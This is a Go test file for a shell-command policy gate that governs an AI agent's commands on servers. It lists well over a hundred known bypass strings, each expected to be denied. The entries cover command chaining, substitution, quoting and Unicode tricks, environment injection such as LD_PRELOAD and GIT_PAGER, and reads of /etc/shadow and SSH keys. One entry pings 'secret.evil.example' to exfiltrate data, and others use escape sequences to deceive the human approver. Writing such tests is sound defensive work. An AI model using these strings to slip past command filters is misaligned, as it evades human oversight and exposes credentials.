package shell_test

import (
	"os"
	"strings"
	"testing"

	"gatehouse/bastion/shell"
	"gatehouse/policy"
)

// The codes that a bypass is stopped with.
const (
	syntaxCode   = policy.CodeUnsupportedSyntax
	programCode  = policy.CodeNotAllowed
	argumentCode = policy.CodeBadArgument
	envCode      = policy.CodeEnvNotAllowed
	ptyCode      = policy.CodePTYNotAllowed
)

// bypasses are ways in which an approved command line does something else, known from other products. Under the policy in
// testdata/bypass each runs "touch PWN" or its like if it gets through.
var bypasses = []struct {
	about string
	code  policy.Code
	line  string
	env   string // NAME=VALUE, if the trick is there
}{
	{"; chain", programCode, "ls;touch PWN", ""},
	{"&&", programCode, "ls&&touch PWN", ""},
	{"||", programCode, "ls||touch PWN", ""},
	{"background", syntaxCode, "ls&touch PWN", ""},
	{"a pipe of which only the first part is checked", programCode, "ls|touch PWN", ""},
	{"|&", syntaxCode, "ls|&touch PWN", ""},
	{"newline as separator", programCode, "ls\ntouch PWN", ""},
	{"CRLF", syntaxCode, "ls\r\ntouch PWN", ""},
	{"comment, then newline", programCode, "ls # ok\ntouch PWN", ""},
	{"backslash-newline inside a word", syntaxCode, "t\\\nouch PWN", ""},
	{"$(…)", syntaxCode, "echo $(touch PWN)", ""},
	{"backticks", syntaxCode, "echo `touch PWN`", ""},
	{"substitution in double quotes", syntaxCode, `echo "$(touch PWN)"`, ""},
	{"process substitution in", syntaxCode, "cat <(touch PWN)", ""},
	{"process substitution out", syntaxCode, "echo x > >(touch PWN)", ""},
	{"${ cmd; } of bash 5.3", syntaxCode, "echo ${ touch PWN; }", ""},
	{"here-document", syntaxCode, "cat <<E\n$(touch PWN)\nE", ""},
	{"here-string", syntaxCode, "cat <<< $(touch PWN)", ""},
	{"substitution in a redirection", syntaxCode, "echo x >$(touch PWN;echo y)", ""},
	{"! prefix", programCode, "! touch PWN", ""},
	{"time prefix", syntaxCode, "time touch PWN", ""},
	{"if", syntaxCode, "if touch PWN; then ls; fi", ""},
	{"while", syntaxCode, "while touch PWN; do ls; done", ""},
	{"for", syntaxCode, "for i in a; do touch PWN; done", ""},
	{"case", syntaxCode, "case a in a) touch PWN;; esac", ""},
	{"group", programCode, "{ touch PWN; }", ""},
	{"subshell", programCode, "(touch PWN)", ""},
	{">|", syntaxCode, "echo hi >|PWN", ""},
	{"1<>", syntaxCode, "echo hi 1<>PWN", ""},
	{"bare redirection", syntaxCode, ">PWN", ""},
	{"/dev/tcp", syntaxCode, "echo x >/dev/tcp/127.0.0.1/9", ""},
	{"trap", syntaxCode, "trap 'touch PWN' EXIT", ""},
	{"eval", syntaxCode, "eval 'touch PWN'", ""},
	{". of a process substitution", syntaxCode, ". <(echo touch PWN)", ""},
	{"exec", programCode, "exec touch PWN", ""},
	{"command", programCode, "command touch PWN", ""},
	{"builtin eval", syntaxCode, "builtin eval touch PWN", ""},
	{"compgen -C", syntaxCode, "compgen -C 'touch PWN;:' x", ""},
	{"mapfile -C", syntaxCode, "mapfile -C 'touch PWN;:' -c 1", ""},
	{"coproc", syntaxCode, "coproc touch PWN", ""},
	{"hash -p", syntaxCode, "hash -p /usr/bin/touch ls;ls", ""},
	{"function that shadows", syntaxCode, "ls(){ touch PWN;};ls", ""},
	{"alias, then newline", syntaxCode, "alias ls='touch PWN'\nls", ""},
	{"more commands than are checked", syntaxCode, strings.Repeat("ls;", 70) + "touch PWN", ""},
	{"more commands than usual", programCode, strings.Repeat("ls;", 60) + "touch PWN", ""},
	{"nested shells", programCode, `bash -c 'bash -c "touch PWN"'`, ""},
	{"arithmetic index", syntaxCode, "echo $((a[$(touch PWN)]))", ""},
	{"arithmetic through a variable", syntaxCode, "x='a[$(touch PWN)]';echo $((x))", ""},
	{"printf -v", argumentCode, "printf -v 'a[$(touch PWN)]' x", ""},
	{"test -v", argumentCode, "test -v 'a[$(touch PWN)]'", ""},
	{"[[ -v ]]", syntaxCode, "[[ -v a ]]", ""},
	{"let", syntaxCode, "let 'a[$(touch PWN)]=1'", ""},
	{"${x@P}", syntaxCode, "x='$(touch PWN)';echo ${x@P}", ""},
	{"${x:=…}", syntaxCode, "echo ${x:='$(touch PWN)'} ${x@P}", ""},
	{"${!x}", syntaxCode, "x='a[$(touch PWN)]';echo ${!x}", ""},
	{"quotes inside the word", programCode, "t'o'uch PWN", ""},
	{"double quotes inside the word", programCode, `t"o"uch PWN`, ""},
	{"backslash in the word", programCode, `\touch PWN`, ""},
	{"ANSI-C quoting", syntaxCode, `$'\x74ouch' PWN`, ""},
	{"locale quoting", syntaxCode, `$"touch" PWN`, ""},
	{"empty expansion", syntaxCode, "to$@uch PWN", ""},
	{"concatenation", syntaxCode, "P1=~/.ssh;P2=id_rsa;cat $P1/$P2", ""},
	{"base64 that builds the word", syntaxCode, "$(echo dG91Y2g=|base64 -d) PWN", ""},
	{"encoded script to a shell", programCode, "echo dG91Y2ggUFdO|base64 -d|sh", ""},
	{"brace expansion", syntaxCode, "{touch,PWN}", ""},
	{"$IFS", syntaxCode, "touch${IFS}PWN", ""},
	{"glob as the command", syntaxCode, "/???/???/tou[c]h PWN", ""},
	{"homoglyph", programCode, "l\u0455", ""},
	{"zero-width space", syntaxCode, "touch\u200b PWN", ""},
	{"no-break space", syntaxCode, "ls\u00a0-l", ""},
	{"fullwidth letters", programCode, "\uff4c\uff53", ""},
	{"NUL", syntaxCode, "ls\x00.evil", ""},
	{"set -x with PS4", syntaxCode, "set -x;ls", ""},
	{"equivalent: find -delete", argumentCode, "find /srv/app -delete", ""},
	{"equivalent: python3 -c", argumentCode, "python3 -c 'import os'", ""},
	{"equivalent: perl", programCode, "perl -e 'unlink 1'", ""},
	{"BASH_ENV", envCode, "ls", "BASH_ENV=./p"},
	{"exported function", envCode, "ls", "BASH_FUNC_ls%%=() { touch PWN; }"},
	{"function in a listed variable", envCode, "ls", "LC_ALL=() { :; }; touch PWN"},
	{"LD_PRELOAD under a listed prefix", envCode, "ls", "LD_PRELOAD=./x.so"},
	{"GIT_PAGER", envCode, "git -C /srv/app log", "GIT_PAGER=touch PWN"},
	{"PAGER under a listed prefix", envCode, "git -C /srv/app log", "PAGER=touch PWN"},
	{"GIT_CONFIG_COUNT", envCode, "git -C /srv/app log", "GIT_CONFIG_COUNT=1"},
	{"PYTHONPATH under a listed prefix", envCode, "python3 /srv/app/bin/report.py", "PYTHONPATH=."},
	{"PERL5OPT under a listed prefix", envCode, "ls", "PERL5OPT=-Mx"},
	{"LESSOPEN under a listed prefix", envCode, "ls", "LESSOPEN=|touch PWN"},
	{"TAR_OPTIONS", envCode, "tar -tzf /srv/backup/a.tar.gz", "TAR_OPTIONS=--checkpoint-action=exec=./p"},
	{"PATH under a listed prefix", envCode, "ls", "PATH=."},
	{"PS4 under a listed prefix", envCode, "ls", "PS4=$(touch PWN)"},
	{"git -c alias", argumentCode, "git -c 'alias.x=!touch PWN' x", ""},
	{"git -c after -C", argumentCode, "git -C /srv/app -c core.pager=./p log", ""},
	{"git --exec-path", argumentCode, "git --exec-path=. x", ""},
	{"git -p", argumentCode, "git -p -C /srv/app log", ""},
	{"git --upload-pack, abbreviated", argumentCode, "git ls-remote --upload-pa='touch PWN;false' .", ""},
	{"git --output", argumentCode, "git -C /srv/app log --output=PWN", ""},
	{"git --output as a slot", argumentCode, "git -C /srv/app show --output=PWN", ""},
	{"git grep -O", argumentCode, "git -C /srv/app grep '-Otouch PWN;:' b", ""},
	{"git ext::", argumentCode, "git ls-remote 'ext::sh -c touch% PWN'", ""},
	{"git rebase --exec", argumentCode, "git rebase --exec 'touch PWN' --root", ""},
	{"find -exec", argumentCode, `find /srv/app -exec touch PWN \;`, ""},
	{"find -fprintf", argumentCode, "find /srv/app -fprintf PWN x", ""},
	{"find -name, then -exec", argumentCode, `find /srv/app -name x -exec touch PWN \;`, ""},
	{"find with an option as the name", argumentCode, "find /srv/app -name -delete", ""},
	{"sort --compress-program, abbreviated", argumentCode, "sort -S 1K --compress-prog=./p /var/log/x", ""},
	{"sort -o", argumentCode, "sort -o PWN /var/log/x", ""},
	{"sort, bundled", argumentCode, "sort -uoPWN /var/log/x", ""},
	{"sed e", argumentCode, "sed '1e touch PWN'", ""},
	{"sed w", argumentCode, "sed -n 'w PWN' /var/log/x", ""},
	{"sed -i", argumentCode, "sed -i -n 1,20p", ""},
	{"awk system", argumentCode, `awk 'BEGIN{system("touch PWN")}'`, ""},
	{"gawk -l", argumentCode, "awk -l ./x '{print $1}'", ""},
	{"tar --checkpoint-action", argumentCode, "tar -czf /srv/backup/a.tar.gz --checkpoint=1 --checkpoint-action=exec=./p /srv/app/x", ""},
	{"tar, bundled", argumentCode, "tar cIf ./p /srv/backup/o.tar.gz /srv/app/p", ""},
	{"tar -I", argumentCode, "tar -I ./p -tzf /srv/backup/a.tar.gz", ""},
	{"tar --to-command", argumentCode, "tar -tzf /srv/backup/a.tar.gz --to-command=./p", ""},
	{"zip -TT", argumentCode, "zip /srv/backup/o.zip /srv/app/p -T -TT './p #'", ""},
	{"man -P", argumentCode, "man -P ./p ls", ""},
	{"ssh -o ProxyCommand", argumentCode, "ssh -oProxyCommand='touch PWN' db-1 uptime", ""},
	{"ssh host with metacharacters", argumentCode, "ssh 'db-1;touch PWN' uptime", ""},
	{"ssh -F", argumentCode, "ssh -F ./c db-1 uptime", ""},
	{"scp -S", argumentCode, "scp -S ./p /srv/backup/x db-1:/srv/in/", ""},
	{"rsync -e", argumentCode, "rsync -e ./p /srv/app/x db-1:/srv/app/", ""},
	{"curl -o", argumentCode, "curl -sS http://localhost:8080/health -o PWN", ""},
	{"curl -K, bundled", argumentCode, "curl -sK c", ""},
	{"curl file://", argumentCode, "curl -sS file:///etc/shadow", ""},
	{"uniq as a writer", argumentCode, "uniq /etc/hostname PWN", ""},
	{"tee", programCode, "ls | tee PWN", ""},
	{"dd", programCode, "dd of=PWN", ""},
	{"rg --pre", argumentCode, "rg --pre ./p a /srv/app/f", ""},
	{"date -f", argumentCode, "date -f /etc/shadow", ""},
	{"file -f", argumentCode, "file -f /etc/shadow", ""},
	{"diff --line-format", argumentCode, "diff --line-format=%L /srv/a /srv/b", ""},
	{"ss -F", argumentCode, "ss -F /etc/shadow", ""},
	{"ping to another host", argumentCode, "ping -c 1 secret.evil.example", ""},
	{"a flag's operand read as more flags", argumentCode, "grep -rf/etc/shadow x", ""},
	{"a wildcard that crosses words", argumentCode, "cat /var/log/messages /etc/shadow", ""},
	{"env", programCode, "env touch PWN", ""},
	{"env -S", syntaxCode, "env -S'touch PWN'", ""},
	{"busybox", syntaxCode, "busybox touch PWN", ""},
	{"sudo", syntaxCode, "sudo ls", ""},
	{"vim -c", programCode, "vim -es -c '!touch PWN' -c q", ""},
	{"python3 -m", argumentCode, "python3 -m timeit 'x'", ""},
	{"interpreter with a script of one's own", argumentCode, "python3 /tmp/t.py", ""},
	{"stdin as program", programCode, "echo touch PWN | sh", ""},
	{"interpreter without arguments", argumentCode, "python3", ""},
	{"dynamic loader", programCode, "/lib64/ld-linux-x86-64.so.2 /usr/bin/touch PWN", ""},
	{"other spelling of a path", policy.CodeProgram, "/usr/../usr/bin/ls", ""},
	{"planted file with the name", programCode, "./ls", ""},
	{"/proc/self/root", policy.CodeProgram, "/proc/self/root/usr/bin/ls", ""},
	{".. in an operand", argumentCode, "cat /var/log/../../etc/shadow", ""},
	{"// in an operand", argumentCode, "cat /var/log//x", ""},
	{"~+", syntaxCode, "ls ~+/x", ""},
	{"cd, then a relative path", syntaxCode, "cd /usr/bin; passwd bot", ""},
	{"prefix of a path", argumentCode, "cat /var/log-evil/x", ""},
	{"systemctl glob", argumentCode, "systemctl restart 'app-*'", ""},
	{"systemctl -H", argumentCode, "systemctl -H evil status app-api", ""},
	{"a denied unit among allowed ones", policy.CodeDeniedByRule, "systemctl restart app-api app-db.service", ""},
	{"escape sequences for the approver", syntaxCode, "echo '\x1b]52;c;x\x07'", ""},
	{"carriage return that overwrites", syntaxCode, "echo 'rm\rls'", ""},
	{"bidirectional override", syntaxCode, "echo '\u202etxt.sh'", ""},
	{"escape sequences by exact argv", argumentCode, shell.ArgvPrefix + encode(`["echo","\u001b[2J"]`), ""},
	{"newline by exact argv", argumentCode, shell.ArgvPrefix + encode(`["cat","/var/log/x\n/etc/shadow"]`), ""},
	{"a program by exact argv", programCode, shell.ArgvPrefix + encode(`["touch","PWN"]`), ""},
	{"exec's own option", syntaxCode, "'-a' ls touch PWN", ""},
}

// controls are lines that the same policy allows, so that the catalogue is not stopped by a policy that allows nothing.
var controls = []string{
	"ls -l /srv/app", "echo hello", "cat /var/log/syslog", "tail -n5 /var/log/a/b | grep -i error | sort -u | head -n 3",
	"find /srv/app -type f -name '*.go' -print", "git -C /srv/app log -n 5 --oneline && git -C /srv/app status", `sed -n '1,20p'`,
	"awk '{print $1}'", "tar -tzf /srv/backup/a.tar.gz", "systemctl restart app-api", "curl -sS http://localhost:8080/health", "printf '%s' x",
	shell.ArgvPrefix + encode(`["echo","a b"]`), "python3 /srv/app/bin/report.py --day=2026-01-01", "ssh db-1 uptime; date -u || ss -n -t -l",
}

func bypassPolicy(t *testing.T) *policy.Policy {
	t.Helper()
	text, err := os.ReadFile("testdata/bypass/policy.yaml")
	if err != nil {
		t.Fatal(err)
	}
	p, err := policy.Parse([]policy.File{{Name: "policy.yaml", Data: text}})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// decideLine plans and decides a line as the door and the decider do.
func decideLine(p *policy.Policy, line, env string) policy.Decision {
	plan, err := shell.Parse(line)
	if err != nil {
		return policy.Decision{Verdict: policy.Deny, Code: policy.CodeUnsupportedSyntax, Reason: err.Error()}
	}
	r := policy.Request{Identity: policy.Identity{Kind: policy.Agent, Name: "bot"}, Target: "web-1", Login: "deploy", Plan: plan, Facts: policy.Facts{Assume: true}}
	if name, value, ok := strings.Cut(env, "="); ok {
		r.Env = []policy.EnvVar{{Name: name, Value: value}}
	}
	return p.Decide(r)
}

func TestBypassesAreStopped(t *testing.T) {
	p := bypassPolicy(t)
	for _, line := range controls {
		if d := decideLine(p, line, "LC_ALL=C"); d.Verdict != policy.Allow {
			t.Errorf("control %q: %+v", line, d)
		}
	}
	for _, c := range bypasses {
		if d := decideLine(p, c.line, c.env); d.Verdict != policy.Deny || d.Code != c.code {
			t.Errorf("%s: %q %s: got %s %s %v (%s), want %s", c.about, c.line, c.env, d.Verdict, d.Code, d.Rules, d.Reason, c.code)
		}
	}
}

func TestPTYIsNotInherited(t *testing.T) {
	p := bypassPolicy(t)
	plan, err := shell.Parse("git -C /srv/app log")
	if err != nil {
		t.Fatal(err)
	}
	r := policy.Request{Identity: policy.Identity{Kind: policy.Agent, Name: "bot"}, Target: "web-1", Login: "deploy", Plan: plan, PTY: true, Facts: policy.Facts{Assume: true}}
	if d := p.Decide(r); d.Code != ptyCode {
		t.Errorf("git on a pty: got %+v", d)
	}
}
